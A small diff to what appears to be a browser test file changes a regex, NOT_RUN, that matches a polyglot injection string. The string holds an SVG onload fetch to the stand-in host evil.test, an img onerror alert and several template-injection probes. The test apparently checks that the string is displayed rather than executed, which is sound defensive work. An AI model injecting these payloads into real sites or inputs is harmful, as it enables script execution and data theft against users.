@@ -157,7 +157,7 @@ function textOn(page: Page): Promise<string> {
 }
 
 const NOT_RUN =
-  /<svg\/onload=fetch\('\/\/evil\.test\/a'\)><img src=x onerror=alert\(1\)>\{\{7\*7\}\}\$\{7\*7\}<%=7\*7%>#\{7\*7\}\{name\}__NAME__%s/;
+  /<svg\/onload=fetch\('\/\/evil\.test\/a'\)><img src=x onerror=alert\(1\)>\{\{71\*73\}\}\$\{71\*73\}<%=71\*73%>#\{71\*73\}\{name\}__NAME__%s/;
 
 test.each([
   ["the queue", "/queue"],
